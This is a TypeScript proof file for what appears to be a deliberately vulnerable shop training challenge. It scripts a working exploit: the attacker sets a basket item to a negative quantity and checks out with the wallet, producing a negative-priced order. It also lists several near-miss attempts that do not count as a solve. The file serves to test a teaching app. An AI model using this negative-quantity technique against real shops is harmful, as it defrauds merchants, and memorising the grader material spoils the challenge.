import { addOrderDetails } from '@fruit/challenge-kit/order-details'
import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

/** Puts one item of each product into the player's own basket, changes the quantities and orders the basket. */
async function order(attacker: Attacker, quantities: Readonly<Record<number, number>>) {
  const { basketId } = await attacker.becomeCustomer()
  for (const [product, quantity] of Object.entries(quantities)) await put(attacker, basketId, Number(product), quantity)
  const orderDetails = { ...(await addOrderDetails(attacker)), paymentId: 'wallet' }
  return attacker.post(`/rest/basket/${basketId}/checkout`, { orderDetails })
}

async function put(attacker: Attacker, basketId: number, ProductId: number, quantity: number) {
  const added = await attacker.post('/api/BasketItems', { ProductId, BasketId: basketId, quantity: 1 })
  await attacker.put(`/api/BasketItems/${added.json().data.id}`, { quantity })
}

export const proof = prove(challenge, {
  exploit: (attacker) => order(attacker, { 2: -1 }),
  nearMisses: {
    'a negative quantity that stays in the basket': async (attacker) => {
      const { basketId } = await attacker.becomeCustomer()
      await put(attacker, basketId, 2, -100)
      await attacker.get(`/rest/basket/${basketId}`)
    },
    'an order of nothing': (attacker) => order(attacker, { 2: 0 }),
    'a negative quantity that other products outweigh': (attacker) => order(attacker, { 2: -1, 3: 1 }),
    'an order of one piece that the wallet cannot pay': (attacker) => order(attacker, { 2: 1 }),
    'half a piece less than nothing': (attacker) => order(attacker, { 2: -0.5 }),
  },
})
